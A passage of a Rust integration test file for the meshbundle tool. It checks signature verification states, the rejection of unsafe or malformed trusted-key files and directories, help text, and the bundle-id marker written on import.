            ("other.mbundle", ["signed by another key", other.as_str()]),
        ] {
            let mut a = vec!["import", bundle, "--quiet", "--extract", "out"];
            a.extend(args);
            let o = mb_env(d, &a, env);
            assert_eq!(o.status.code(), Some(1), "{bundle} {args:?} {env:?}: {}", all(&o));
            assert!(
                text(&o.stdout).contains("SEAL.json.sig") && why.iter().all(|w| text(&o.stdout).contains(w)),
                "{bundle}: {}",
                all(&o)
            );
            assert!(text(&o.stderr).contains("nothing was imported"), "{}", all(&o));
            assert!(!d.join("out").exists(), "{bundle}: nothing laid out");
        }
        let mut a = vec![
            "import",
            "signed.mbundle",
            "--quiet",
            "--extract",
            "out",
            "--format",
            "json",
        ];
        a.extend(args);
        let o = mb_env(d, &a, env);
        assert!(o.status.success(), "{}", all(&o));
        assert!(
            text(&o.stderr).contains(&format!("signature: signed by key {release}, verified")),
            "{}",
            all(&o)
        );
        let v: Value = serde_json::from_slice(&o.stdout).unwrap();
        assert_eq!(
            (v["signature"]["state"].as_str(), v["signature"]["key"].as_str()),
            (Some("verified"), Some(release.as_str())),
            "{v}"
        );
        std::fs::remove_dir_all(d.join("out")).unwrap();
    }
    // Without a policy, import says what it knows.
    let o = mb(d, &["import", "signed.mbundle", "--quiet", "--extract", "out"]);
    assert!(o.status.success(), "{}", all(&o));
    assert!(
        text(&o.stderr).contains("signature: signed, not checked") && text(&o.stderr).contains(&release),
        "{}",
        all(&o)
    );
    std::fs::remove_dir_all(d.join("out")).unwrap();
    let o = mb(
        d,
        &[
            "import",
            "unsigned.mbundle",
            "--quiet",
            "--extract",
            "out",
            "--format",
            "json",
        ],
    );
    assert!(o.status.success(), "{}", all(&o));
    assert!(text(&o.stderr).contains("signature: unsigned"), "{}", all(&o));
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["signature"]["state"], "unsigned");
}

#[test]
fn trusted_key_files_that_are_unsound_are_errors_not_skipped() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    keygen(d, "release");
    build(d, "signed.mbundle", Some("release.key"));
    let mk = |name: &str| -> PathBuf {
        let p = d.join(name);
        std::fs::create_dir(&p).unwrap();
        std::fs::copy(d.join("release.pub"), p.join("release.pub")).unwrap();
        p
    };
    let writable = mk("writable");
    std::fs::set_permissions(writable.join("release.pub"), std::fs::Permissions::from_mode(0o666)).unwrap();
    let group = mk("group");
    std::fs::set_permissions(group.join("release.pub"), std::fs::Permissions::from_mode(0o664)).unwrap();
    let open_dir = mk("open-dir");
    std::fs::set_permissions(&open_dir, std::fs::Permissions::from_mode(0o777)).unwrap();
    let malformed = mk("malformed");
    std::fs::write(
        malformed.join("broken.pub"),
        "-----BEGIN PUBLIC KEY-----\nnot a key\n-----END PUBLIC KEY-----\n",
    )
    .unwrap();
    let rsa = mk("rsa");
    let o = Command::new("openssl")
        .args([
            "genpkey",
            "-algorithm",
            "RSA",
            "-pkeyopt",
            "rsa_keygen_bits:1024",
            "-out",
        ])
        .arg(d.join("rsa.key"))
        .output()
        .unwrap();
    assert!(o.status.success());
    let o = Command::new("openssl")
        .args(["pkey", "-pubout", "-in"])
        .arg(d.join("rsa.key"))
        .arg("-out")
        .arg(rsa.join("rsa.pub"))
        .output()
        .unwrap();
    assert!(o.status.success());
    let dangling = mk("dangling");
    std::os::unix::fs::symlink(d.join("gone.pub"), dangling.join("gone.pub")).unwrap();
    let unreadable = mk("unreadable");
    std::fs::create_dir(unreadable.join("a-directory.pub")).unwrap();
    std::fs::create_dir(d.join("empty")).unwrap();
    std::fs::write(d.join("loose.pub"), std::fs::read(d.join("release.pub")).unwrap()).unwrap();
    std::fs::set_permissions(d.join("loose.pub"), std::fs::Permissions::from_mode(0o646)).unwrap();

    let cases = [
        ("writable", "writable by anyone"),
        ("group", "writable by its group"),
        ("open-dir", "writable by anyone"),
        ("malformed", "not an ed25519 public key"),
        ("rsa", "not an ed25519 public key"),
        ("dangling", "gone.pub"),
        ("unreadable", "a-directory.pub"),
        ("empty", "holds no *.pub file"),
        ("loose.pub", "writable by anyone"),
        ("missing.pub", "missing.pub"),
    ];
    for (path, why) in cases {
        let full = d.join(path);
        let full = full.to_str().unwrap();
        for (args, env) in [
            (vec!["verify", "signed.mbundle", "--key", full], vec![]),
            (
                vec!["verify", "signed.mbundle"],
                vec![("MESHBUNDLE_TRUSTED_KEYS", full)],
            ),
            (
                vec!["import", "signed.mbundle", "--quiet", "--extract", "out", "--key", full],
                vec![],
            ),
        ] {
            let o = mb_env(d, &args, &env);
            assert_eq!(o.status.code(), Some(1), "{path} {args:?}: {}", all(&o));
            assert!(
                text(&o.stderr).contains("error: ") && text(&o.stderr).contains(why),
                "{path} {args:?}: expected `{why}` in: {}",
                all(&o)
            );
            assert!(!d.join("out").exists());
        }
    }
    // The config directory is held to the same rules.
    let cfg = d.join("cfg");
    std::fs::create_dir(&cfg).unwrap();
    std::fs::rename(&writable, cfg.join("trusted-keys")).unwrap();
    let o = mb_env(
        d,
        &["verify", "signed.mbundle"],
        &[("MESHBUNDLE_CONFIG_DIR", cfg.to_str().unwrap())],
    );
    assert_eq!(o.status.code(), Some(1), "{}", all(&o));
    assert!(
        text(&o.stderr).contains("writable by anyone") && text(&o.stderr).contains("chmod go-w"),
        "{}",
        all(&o)
    );
    std::fs::set_permissions(
        cfg.join("trusted-keys/release.pub"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    let o = mb_env(
        d,
        &["verify", "signed.mbundle"],
        &[("MESHBUNDLE_CONFIG_DIR", cfg.to_str().unwrap())],
    );
    assert!(
        o.status.success() && text(&o.stdout).contains(", verified"),
        "{}",
        all(&o)
    );
}

#[test]
fn help_describes_the_signature_states_and_the_trust_policy() {
    let dir = tempfile::tempdir().unwrap();
    for cmd in ["verify", "import"] {
        let o = mb(dir.path(), &[cmd, "--help"]);
        let h = text(&o.stdout);
        for want in [
            "unsigned",
            "signed, not checked",
            "signed by key SHA256:..., verified",
            "--key",
            "MESHBUNDLE_TRUSTED_KEYS",
            "/etc/meshbundle/trusted-keys",
            "MESHBUNDLE_CONFIG_DIR",
            "Examples:",
        ] {
            assert!(h.contains(want), "{cmd} --help lacks `{want}`:\n{h}");
        }
    }
    let h = text(&mb(dir.path(), &["keygen", "--help"]).stdout);
    assert!(
        h.contains("fingerprint") && h.contains("trusted-keys") && h.contains("Examples:"),
        "{h}"
    );
}

#[test]
fn trusted_keys_and_every_directory_above_them_belong_to_root_or_the_caller() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    keygen(d, "release");
    build(d, "signed.mbundle", Some("release.key"));
    let chmod = |p: &Path, m: u32| std::fs::set_permissions(p, std::fs::Permissions::from_mode(m)).unwrap();
    let nobody = |p: &Path| std::os::unix::fs::chown(p, Some(65534), Some(65534)).unwrap();
    // `up/keys/release.pub`, every part of it sound.
    let mk = |up: &str| -> PathBuf {
        let keys = d.join(up).join("keys");
        std::fs::create_dir_all(&keys).unwrap();
        chmod(&d.join(up), 0o755);
        chmod(&keys, 0o755);
        std::fs::copy(d.join("release.pub"), keys.join("release.pub")).unwrap();
        chmod(&keys.join("release.pub"), 0o644);
        keys
    };
    let open_parent = mk("open-parent");
    chmod(&d.join("open-parent"), 0o777);
    let group_parent = mk("group-parent");
    chmod(&d.join("group-parent"), 0o775);
    let their_file = mk("their-file");
    nobody(&their_file.join("release.pub"));
    let their_dir = mk("their-dir");
    nobody(&their_dir);
    let their_parent = mk("their-parent");
    nobody(&d.join("their-parent"));
    // Under a sticky world-writable directory (like /tmp), only what root or the caller owns.
    let sticky_theirs = mk("sticky/theirs");
    chmod(&d.join("sticky"), 0o1777);
    nobody(&d.join("sticky/theirs"));

    let cases = [
        (
            open_parent.clone(),
            "open-parent: a directory above the trusted key",
            "writable by anyone",
        ),
        (
            group_parent.clone(),
            "group-parent: a directory above the trusted key",
            "writable by its group",
        ),
        (
            their_file.join("release.pub"),
            "their-file/keys/release.pub",
            "owned by user 65534",
        ),
        (their_dir.clone(), "their-dir/keys", "owned by user 65534"),
        (
            their_parent.clone(),
            "their-parent: a directory above the trusted key",
            "owned by user 65534",
        ),
        (
            sticky_theirs.clone(),
            "sticky/theirs: a directory above the trusted key",
            "owned by user 65534",
        ),
    ];
    for (path, what, why) in &cases {
        for p in [path.clone(), path.join("release.pub")] {
            if p.ends_with("release.pub/release.pub") {
                continue;
            }
            let full = p.to_str().unwrap();
            for (args, env) in [
                (vec!["verify", "signed.mbundle", "--key", full], vec![]),
                (
                    vec!["import", "signed.mbundle", "--quiet", "--extract", "out"],
                    vec![("MESHBUNDLE_TRUSTED_KEYS", full)],
                ),
            ] {
                let o = mb_env(d, &args, &env);
                let err = text(&o.stderr);
                assert_eq!(o.status.code(), Some(1), "{full} {args:?}: {}", all(&o));
                assert!(
                    err.contains("error: ") && err.contains(what) && err.contains(why),
                    "{full}: expected `{what}`, `{why}` in: {err}"
                );
                assert!(!d.join("out").exists());
            }
        }
    }
    // Sound ones: under the test's own directory, and below a sticky one when root or the caller owns the next part.
    let sound = mk("sound");
    let sticky_ours = mk("sticky/ours");
    for p in [sound, sticky_ours.clone(), sticky_ours.join("release.pub")] {
        let o = mb(d, &["verify", "signed.mbundle", "--key", p.to_str().unwrap()]);
        assert!(
            o.status.success() && text(&o.stdout).contains(", verified"),
            "{}: {}",
            p.display(),
            all(&o)
        );
    }
}

/// The bundle id `import` printed: `verified (ID)`.
fn printed_id(stderr: &str) -> String {
    let at = stderr.find("verified (").expect(stderr) + "verified (".len();
    stderr[at..].split(')').next().unwrap().to_string()
}

#[test]
fn the_marker_of_a_laid_out_tree_is_the_verified_bundle_id() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    build(d, "x.mbundle", None);
    let o = mb(d, &["import", "x.mbundle", "--quiet", "--extract", "out"]);
    assert!(o.status.success(), "{}", all(&o));
    let id = printed_id(&text(&o.stderr));
    assert_eq!(
        std::fs::read_to_string(d.join("out/.meshbundle")).unwrap(),
        format!("{id}\n")
    );
    // The same seal written another way (pretty-printed, SEAL.sha256 to match):
    // its id is that of the bytes verified, whatever a re-serialised seal says.
    let list = entries(&d.join("x.mbundle"));
    let seal: Value = serde_json::from_slice(&list[0].1).unwrap();
    let mut head = list[0].clone();
    set_data(&mut head, serde_json::to_vec_pretty(&seal).unwrap());
    let mut sum = list[1].clone();
    set_data(&mut sum, format!("sha256:{}\n", sha256_hex(&head.1)).into_bytes());
    let mut b = tar::Builder::new(std::fs::File::create(d.join("pretty.mbundle")).unwrap());
    for (h, data) in [head.clone(), sum].iter().chain(body(&d.join("x.mbundle")).iter()) {
        b.append(h, data.as_slice()).unwrap();
    }
    b.finish().unwrap();
    let o = mb(d, &["import", "pretty.mbundle", "--quiet", "--extract", "pretty"]);
    if o.status.success() {
        let id = printed_id(&text(&o.stderr));
        assert_eq!(id, format!("sha256:{}", sha256_hex(&head.1)));
        assert_eq!(
            std::fs::read_to_string(d.join("pretty/.meshbundle")).unwrap(),
            format!("{id}\n")
        );
    } else {
        // A seal not in canonical form may be refused outright; then nothing is laid out.
        assert!(!d.join("pretty").exists(), "{}", all(&o));
    }
}
